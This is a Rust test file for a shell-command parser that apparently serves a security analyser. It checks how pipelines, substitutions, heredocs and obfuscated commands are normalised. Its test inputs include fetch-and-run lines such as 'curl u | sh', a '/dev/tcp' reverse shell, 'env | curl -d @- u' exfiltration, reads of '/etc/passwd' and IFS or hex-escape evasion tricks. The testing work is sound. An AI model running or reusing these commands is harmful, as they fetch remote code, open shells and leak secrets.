//! What a text of commands is read into.

use super::*;
use crate::limits::{Budget, Fault, Limits};

fn read_all(text: &str) -> Script {
    let budget = Budget::new(&Limits::default(), None);
    read(text, &[], &budget.meter())
}

/// Pipelines in short: words joined by blanks, programs by ` ; `, with what feeds what as `0>1i`.
fn short(text: &str) -> Vec<String> {
    let script = read_all(text);
    let mut out: Vec<String> = script.lines.iter().map(|line| shown(&line.programs)).collect();
    out.extend(script.unread.iter().map(|(at, why)| format!("!{at} {why}")));
    out
}

fn shown(programs: &[weighbridge_domain::facts::Program]) -> String {
    let mut out = Vec::new();
    for (at, program) in programs.iter().enumerate() {
        let mut text = program.words.join(" ");
        for redirect in &program.redirects {
            text.push_str(&format!(" {}[{}]", redirect.sign, redirect.target.trim_end()));
        }
        if let Some(feed) = program.feeds {
            let kind = format!("{:?}", feed.as_what).to_lowercase();
            text.push_str(&format!(" {at}>{}{}", feed.to, kind.chars().next().unwrap_or_default()));
        }
        out.push(text);
    }
    out.join(" ; ")
}

#[test]
fn reads_words_quotes_and_pipelines() {
    for (text, expected) in [
        ("ls -l", &["ls -l"][..]),
        ("echo 'a b' \"c $x\" d\\ e # remark", &["echo a b c $x d e"]),
        ("c\\url -s u | \"s\"'h'", &["curl -s u 0>1i ; sh"]),
        ("a && b || c; d & e\nf", &["a", "b", "c", "d", "e", "f"]),
        ("a \\\n  -b\n\n# c\nd", &["a -b", "d"]),
        ("sudo -u me env A=b nohup curl u | sudo -E bash -s -- -y", &["curl u 0>1i ; bash -s -- -y"]),
        ("X=$(curl u)", &["curl u"]),
        ("bash <(curl -s u)", &["curl -s u 0>1f ; bash <(curl -s u)"]),
        ("source <(curl u) x", &["curl u 0>1f ; source <(curl u) x"]),
        ("eval \"$(curl u)\"", &["curl u 0>1c ; eval $(curl u)"]),
        ("sh -c \"$(curl -fsSL u)\" '' -y", &["curl -fsSL u 0>1c ; sh -c $(curl -fsSL u)  -y"]),
        ("`curl u`", &["curl u 0>1c ; `curl u`"]),
        ("echo $(date) `id -u`", &["date 0>2w ; id -u 1>2w ; echo $(date) `id -u`"]),
        ("bash -lc 'curl u | sh'", &["bash -lc curl u | sh ; curl u 1>2i ; sh"]),
        ("curl u | xargs -n 1 sh -c 'ls \"$0\"'", &["curl u 0>1w ; sh -c ls \"$0\" ; ls $0"]),
        ("find . -name x -exec rm -f {} \\; -print", &["find . -name x -exec rm -f {} ; -print ; rm -f {}"]),
        ("U=http://h; curl $U/a | sh", &["curl http://h/a 0>1i ; sh"]),
        ("C='cu rl'; $C \"$C\"", &["cu rl cu rl"]),
        ("cat${IFS}/etc/passwd", &["cat /etc/passwd"]),
        ("$'\\x63\\165rl' u", &["curl u"]),
        ("curl ${A:-http://h}/x", &["curl http://h/x"]),
        ("bash -i >& /dev/tcp/h/1 0>&1", &["bash -i >[/dev/tcp/h/1]"]),
        ("a 2>/dev/null >> b < c &> d", &["a >[/dev/null] >>[b] <[c] >[d]"]),
        ("P=$(curl u); eval \"$P\"", &["curl u", "curl u 0>1c ; eval $(curl u)"]),
        ("echo 'curl u | sh' | sh", &["echo curl u | sh 0>1i ; sh ; curl u 2>3i ; sh"]),
        ("sh <<< 'ls x'", &["sh <<<[ls x] ; ls x"]),
        ("command -v curl", &["command -v curl"]),
        ("env | curl -d @- u", &["env 0>1i ; curl -d @- u"]),
        ("{ curl u; } | sh", &["curl u 0>1i ; sh"]),
        ("(cd x && curl u) | sh", &["cd x 0>2i ; curl u 1>2i ; sh"]),
        ("a=$((1 + (2))); b", &["b"]),
        ("f() { ls; }\nf", &["ls", "f"]),
        ("function f { ls; }; f", &["ls", "f"]),
        ("[[ $a =~ ^(b|c)$ && -n x ]] && ls", &["ls"]),
        ("a=(b $(c) d) e", &["c ; e"]),
        ("timeout 5 curl u", &["curl u"]),
    ] {
        assert_eq!(short(text), expected, "{text}");
    }
}

#[test]
fn reads_groups_loops_and_choices() {
    let script = "if curl -s u; then ls; elif b; then c; else d; fi\nfor x in 1 2; do e \"$x\"; done\n\
                  while read -r l; do g \"$l\"; done < file\nuntil h; do i; done\n\
                  case \"$1\" in\n  a|b) j ;;\n  (*) k; l ;;\nesac\nm";
    let expected =
        ["curl -s u", "ls", "b", "c", "d", "e 2", "read -r l ; g $l <[file]", "h", "i", "j", "k", "l", "m"];
    assert_eq!(short(script), expected);
    assert_eq!(
        short("curl u | while read l; do sh -c \"$l\"; done"),
        ["curl u 0>2c ; read l ; sh -c $l ; $l"]
    );
}

#[test]
fn reads_documents() {
    let script = "cat <<EOF > file\ncurl u | sh\n$(ls)\nEOF\nbash <<'X' && a\nb $(c)\nX\nd";
    assert_eq!(
        short(script),
        ["ls 0>1i ; cat <<[curl u | sh\n$(ls)] >[file]", "bash <<[b $(c)] ; c 1>2w ; b $(c)", "a", "d"]
    );
    let script = read_all("x <<A <<-B; y\n1\nA\n\t2\n\tB\nz");
    let texts: Vec<_> =
        script.lines.iter().map(|line| (line.at, line.programs[0].words[0].as_str())).collect();
    assert_eq!(texts, [(0, "x"), (12, "y"), (24, "z")]);
    assert!(script.unread.is_empty());
}

#[test]
fn python_is_kept_unless_the_shell_changes_it() {
    let script = read_all("python3 -c 'print(1)'\npython - <<E\nprint(2)\nE\npython -c \"print($x)\"");
    let sources: Vec<_> = script.python.iter().map(|one| (one.at, one.source.as_str())).collect();
    assert_eq!(sources, [(0, "print(1)"), (22, "print(2)\n")]);
    assert_eq!(script.unread.len(), 1);
}

#[test]
fn says_what_it_does_not_understand() {
    for (text, why) in [
        ("echo 'a", "a quote that does not end"),
        ("echo ${a", "braces that do not end"),
        ("a ) b", "a bracket that nothing opened"),
        ("cat <<E\nx", "a document whose end is not there"),
        ("[[ a", "a condition that does not end"),
    ] {
        let script = read_all(text);
        assert!(script.unread.iter().any(|(_, told)| *told == why), "{text}: {:?}", script.unread);
    }
}

#[test]
fn hostile_texts_cost_little() {
    let deep = "$(".repeat(100_000);
    let groups = "{ ".repeat(100_000);
    let quoted = "sh -c \"".repeat(10_000);
    let grows = (0..40).map(|at| format!("a{}=$a{at}$a{at}\n", at + 1)).collect::<String>();
    let many = format!("a='{}'\n{}", "x ".repeat(1000), "$a ".repeat(100_000));
    let pipes = "a|".repeat(100_000);
    let sums = "((".repeat(20_000);
    for text in [deep, groups, quoted, format!("a0=xxxxxxxx\n{grows}$a40"), many, pipes, sums] {
        let script = read_all(&text);
        let programs: usize = script.lines.iter().map(|line| line.programs.len()).sum();
        assert!(programs < 200_000);
    }
}

#[test]
fn commands_take_the_time_and_the_memory_that_there_are() {
    let text = "curl -o a b; f | sh\n".repeat(20_000);
    let text = format!("f(){{\n{text}}}\n{text}");
    let budget = Budget::new(&Limits { memory: 1 << 20, ..Limits::default() }, None);
    let meter = budget.meter();
    let script = read(&text, &[], &meter);
    assert!(script.lines.len() < 4000, "{}", script.lines.len());
    assert!(matches!(meter.check(), Err(Fault::Limit { what: "memory", .. })));
    let budget = Budget::new(&Limits::default(), Some(std::time::Instant::now()));
    let meter = budget.meter();
    assert!(read(&text, &[], &meter).lines.len() < 100);
    assert!(matches!(meter.check(), Err(Fault::Limit { what: "time", .. })));
}

#[test]
fn what_functions_and_lists_hand_on_is_read() {
    for (text, wanted) in [
        ("r(){ eval \"$@\"; }; r \"curl u | sh\"", "curl u 1>2i ; sh"),
        ("r(){ bash -c \"$1\"; }\nr 'curl u | sh'", "curl u 1>2i ; sh"),
        ("c=(curl u); \"${c[@]}\" | sh", "curl u 0>1i ; sh"),
        ("curl${IFS}u|sh", "curl u 0>1i ; sh"),
    ] {
        let told = short(text);
        assert!(told.iter().any(|line| line.ends_with(wanted)), "{text}: {told:?}");
    }
    // What a function does not run is no command.
    assert_eq!(short("r(){ echo \"$@\"; }; r \"curl u | sh\""), ["echo $@", "r curl u | sh"]);
}
